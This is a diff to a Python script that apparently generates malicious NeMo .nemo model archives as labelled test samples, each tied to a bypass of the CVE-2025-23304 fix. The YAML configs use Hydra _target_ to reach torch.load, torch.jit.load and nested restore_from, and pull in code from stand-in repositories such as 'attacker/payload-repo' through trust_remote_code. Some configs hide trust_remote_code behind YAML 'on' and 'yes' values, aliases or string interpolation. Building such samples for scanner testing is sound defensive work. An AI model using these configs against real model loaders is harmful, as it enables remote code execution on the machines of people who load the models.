@@ -517,6 +517,51 @@ for name, tech, src, payload, cfg in NEMO_TRICKS:
     write(MAL, "code/" + name, tar_bytes([("./model_config.yaml", cfg.encode()), ("./model_weights.ckpt", ckpt)]))
     add("code/" + name, "NeMo .nemo (YAML)", tech, "CVE-2025-23304; " + src, "nemo ModelPT.restore_from",
         "model-archive-code", payload)
+# Names inside the packages NeMo's fix for CVE-2025-23304 trusts (NeMo,
+# PyTorch, Lightning, Megatron, OmegaConf, transformers) that are functions or
+# methods loading checkpoints, pickles or a repository's code, and classes
+# handed trust_remote_code (issue 13: exact names, never prefixes). Each is
+# what hydra.utils.instantiate imports and calls during restore_from.
+NEMO_SAFE_ROOT = [
+    ("hydra_torch_load.nemo", "torch.load of a pickle shipped next to the config (weights_only=False)",
+     "PyTorch docs: torch.load unpickles unless weights_only=True", "torch.load",
+     "encoder:\n  _target_: torch.load\n  f: ./model_weights.ckpt\n  weights_only: false\n"),
+    ("hydra_jit_load.nemo", "torch.jit.load of a TorchScript archive (its code and pickles run)",
+     "PyTorch docs: torch.jit.load runs the archive's TorchScript code", "torch.jit.load",
+     "encoder:\n  _target_: torch.jit.load\n  f: ./payload.pt\n"),
+    ("hydra_from_pretrained.nemo", "transformers.AutoModel.from_pretrained of another repository with trust_remote_code",
+     "Hydra docs (instantiate calls any callable, classmethods too); transformers remote code", "transformers.AutoModel.from_pretrained",
+     "encoder:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: attacker/payload-repo\n"
+     "  trust_remote_code: true\n"),
+    ("hydra_pipeline.nemo", "transformers.pipeline (a function) with trust_remote_code: yes (YAML 1.1 true)",
+     "transformers.pipeline(trust_remote_code=True); PyYAML reads yes as True", "transformers.pipeline",
+     "encoder:\n  _target_: transformers.pipeline\n  task: text-generation\n  model: attacker/payload-repo\n  trust_remote_code: yes\n"),
+    ("hydra_load_from_checkpoint.nemo", "LightningModule.load_from_checkpoint unpickles a checkpoint of the attacker's choice",
+     "Lightning docs: load_from_checkpoint uses torch.load",
+     "pytorch_lightning.LightningModule.load_from_checkpoint",
+     "encoder:\n  _target_: pytorch_lightning.LightningModule.load_from_checkpoint\n  checkpoint_path: ./evil.ckpt\n"),
+    ("hydra_restore_from.nemo", "nemo.core.ModelPT.restore_from of a second .nemo, whose own config is not the one reviewed",
+     "NeMo ModelPT.restore_from (the CVE-2025-23304 loader, nested)", "nemo.core.ModelPT.restore_from",
+     "encoder:\n  _target_: nemo.core.ModelPT.restore_from\n  restore_path: ./inner.nemo\n"),
+    ("hydra_nemo_from_pretrained.nemo", "ASRModel.from_pretrained downloads and restores a model of the attacker's choice",
+     "NeMo ModelPT.from_pretrained (Hugging Face Hub names); nested restore_from", "ASRModel.from_pretrained",
+     "target: nemo.collections.asr.models.ASRModel.from_pretrained\nmodel_name: attacker/evil-asr\n"),
+    ("hydra_trust_remote_code.nemo", "NeMo's own AutoTokenizer class handed trust_remote_code: true",
+     "transformers trust_remote_code (AutoTokenizer.from_pretrained imports the repository's code); issue 13 (SentenceTransformer(..., trust_remote_code=True))",
+     "trust_remote_code: true",
+     "tokenizer:\n  _target_: nemo.collections.common.tokenizers.huggingface.auto_tokenizer.AutoTokenizer\n"
+     "  pretrained_model_name: attacker/tok\n  trust_remote_code: true\n"),
+    ("hydra_trust_remote_code_alias.nemo", "trust_remote_code given through an alias of an anchored 'on'",
+     "YAML 1.1 booleans (PyYAML: on is True) and aliases", "trust_remote_code: on",
+     "flags:\n  remote: &rc on\ntokenizer:\n  _target_: transformers.AutoTokenizer\n  trust_remote_code: *rc\n"),
+    ("hydra_trust_remote_code_interp.nemo", "trust_remote_code interpolated from a quoted \"false\" (a non-empty string, true in Python)",
+     "OmegaConf interpolation; Python truthiness of str", "trust_remote_code: \"false\"",
+     "flags:\n  remote: \"false\"\ntokenizer:\n  _target_: transformers.AutoTokenizer\n  trust_remote_code: ${flags.remote}\n"),
+]
+for name, tech, src, payload, cfg in NEMO_SAFE_ROOT:
+    write(MAL, "code/" + name, tar_bytes([("./model_config.yaml", cfg.encode()), ("./model_weights.ckpt", ckpt)]))
+    add("code/" + name, "NeMo .nemo (YAML)", tech, "CVE-2025-23304; NeMo's safe-target fix admits whole packages; " + src,
+        "nemo ModelPT.restore_from", "model-archive-code", payload)
 write(MAL, "code/hf_config/config.json", json.dumps({"architectures": ["XForCausalLM"], "model_type": "x",
     "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModelForCausalLM": "attacker/payload-repo--modeling_x.XForCausalLM"}}))
 add("code/hf_config/config.json", "Hugging Face config.json", "auto_map sends transformers to another repository's code",
